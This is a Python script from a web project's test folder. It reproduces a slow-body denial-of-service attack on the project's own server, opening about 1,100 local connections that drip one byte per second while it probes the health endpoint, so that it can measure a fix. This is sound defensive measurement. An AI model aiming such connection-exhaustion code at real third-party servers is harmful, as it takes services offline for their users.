#!/usr/bin/env python3
"""The slow-body attack of issue 8, as a reproducible measurement (not a test).

Starts `antirelou serve` (the built-in demo) under a file limit of
`--nofile` (1,024 by default), opens `--connections` connections that send a
webhook head announcing a 1,000-byte body and then one byte every `--drip`
seconds, and meanwhile asks `GET /healthz` on a fresh connection once per
`--probe-every` seconds, each with a `--probe-timeout` second timeout. The
slow connections come from `--attacker-ip` (127.0.0.2), the probes from
127.0.0.1. Prints
what the probes got (answered, timed out, latency) and how the slow
connections ended (answered 408, cut without an answer, still open). With
`--reconnect` each slow client opens a new slow connection as soon as one ends.

    python3 tests/attacks/slow_body.py --binary target/debug/antirelou
    python3 tests/attacks/slow_body.py --binary target/debug/antirelou --env ANTIRELOU__SERVER__MAX_CONNECTIONS_PER_IP=0

Only standard-library Python; everything listens on 127.0.0.1.
"""

import argparse
import asyncio
import os
import statistics
import subprocess
import sys
import tempfile
import time

HEAD = (
    "POST /webhooks/twilio HTTP/1.1\r\n"
    "Host: 127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n"
    "X-Twilio-Signature: slow\r\n"
    "Content-Length: 1000\r\n"
    "\r\n"
    "To=%2B33612345678&Body="
).encode()


async def slow_connection(host, port, drip, until, source_ip):
    """One slow client: returns ('408' | 'cut' | 'refused' | 'open', seconds open)."""
    started = time.monotonic()
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source_ip, 0))
    except OSError:
        return "refused", 0.0
    received = b""
    try:
        writer.write(HEAD)
        await writer.drain()
        while time.monotonic() < until:
            try:
                chunk = await asyncio.wait_for(reader.read(1024), timeout=drip)
            except asyncio.TimeoutError:
                try:
                    writer.write(b"a")
                    await writer.drain()
                except OSError:
                    pass
                continue
            if not chunk:
                break
            received += chunk
        else:
            return "open", time.monotonic() - started
    except OSError:
        pass
    finally:
        writer.close()
    status = received.split(b" ", 2)[1].decode() if received.startswith(b"HTTP/1.1 ") else None
    return (status or "cut"), time.monotonic() - started


async def probe(host, port, timeout):
    """`GET /healthz` on a fresh connection: (status or 'timeout'/'error', seconds)."""
    started = time.monotonic()

    async def ask():
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        await writer.drain()
        line = await reader.readline()
        writer.close()
        return line.split(b" ")[1].decode() if line.startswith(b"HTTP/1.1 ") else "error"

    try:
        status = await asyncio.wait_for(ask(), timeout=timeout)
    except asyncio.TimeoutError:
        status = "timeout"
    except OSError:
        status = "error"
    return status, time.monotonic() - started


async def slow_client(host, port, args, until):
    """One attacker: a slow connection, reopened as soon as it ends with `--reconnect`."""
    endings = []
    while True:
        ending = await slow_connection(host, port, args.drip, until, args.attacker_ip)
        endings.append(ending)
        if not args.reconnect or time.monotonic() >= until or ending[0] == "open":
            return endings


async def attack(host, port, args):
    until = time.monotonic() + args.duration
    clients = [asyncio.create_task(slow_client(host, port, args, until)) for _ in range(args.connections)]
    probes = []
    while time.monotonic() < until - args.probe_timeout:
        probes.append(asyncio.create_task(probe(host, port, args.probe_timeout)))
        await asyncio.sleep(args.probe_every)
    slow = [ending for endings in await asyncio.gather(*clients) for ending in endings]
    return slow, await asyncio.gather(*probes)


def start_server(args, workdir):
    env = dict(os.environ, ANTIRELOU__SERVER__LISTEN="127.0.0.1:0", RUST_LOG="error")
    for item in args.env:
        key, _, value = item.partition("=")
        env[key] = value
    command = f"ulimit -n {args.nofile} && exec {args.binary} serve"
    server = subprocess.Popen(["bash", "-c", command], cwd=workdir, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, text=True)
    first = server.stdout.readline()
    url = next((w for w in first.split() if w.startswith("http://")), None)
    if url is None:
        server.kill()
        sys.exit(f"serve did not start: {first!r}")
    host, port = url.removeprefix("http://").rsplit(":", 1)
    return server, host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", required=True)
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--nofile", type=int, default=1024)
    parser.add_argument("--drip", type=float, default=1.0)
    parser.add_argument("--duration", type=float, default=30.0)
    parser.add_argument("--probe-every", type=float, default=1.0)
    parser.add_argument("--probe-timeout", type=float, default=10.0)
    parser.add_argument("--reconnect", action="store_true", help="reopen each slow connection when it ends")
    parser.add_argument("--attacker-ip", default="127.0.0.2",
                        help="source address of the slow connections (the probes come from 127.0.0.1)")
    parser.add_argument("--env", action="append", default=[], help="KEY=VALUE for the server")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as workdir:
        server, host, port = start_server(args, workdir)
        try:
            slow, probes = asyncio.run(attack(host, port, args))
        finally:
            server.terminate()
            server.wait(timeout=30)
    endings = {}
    for ending, _ in slow:
        endings[ending] = endings.get(ending, 0) + 1
    closed_408 = [seconds for ending, seconds in slow if ending == "408"]
    answered = [seconds for status, seconds in probes if status == "200"]
    print(f"server: {args.binary}, file limit {args.nofile}, extra env {args.env or 'none'}")
    print(f"slow clients: {args.connections} from {args.attacker_ip}, one byte every {args.drip} s, "
          f"for {args.duration} s{', reconnecting' if args.reconnect else ''}; {len(slow)} connections")
    print(f"  endings: {dict(sorted(endings.items()))}")
    if closed_408:
        print(f"  answered 408 after: median {statistics.median(closed_408):.2f} s, max {max(closed_408):.2f} s")
    print(f"probes (GET /healthz, {args.probe_timeout} s timeout): {len(probes)}")
    print(f"  answered 200: {len(answered)}, timed out: {sum(1 for s, _ in probes if s == 'timeout')}, "
          f"errors: {sum(1 for s, _ in probes if s not in ('200', 'timeout'))}")
    if answered:
        print(f"  latency: median {statistics.median(answered) * 1000:.0f} ms, max {max(answered) * 1000:.0f} ms")


if __name__ == "__main__":
    main()
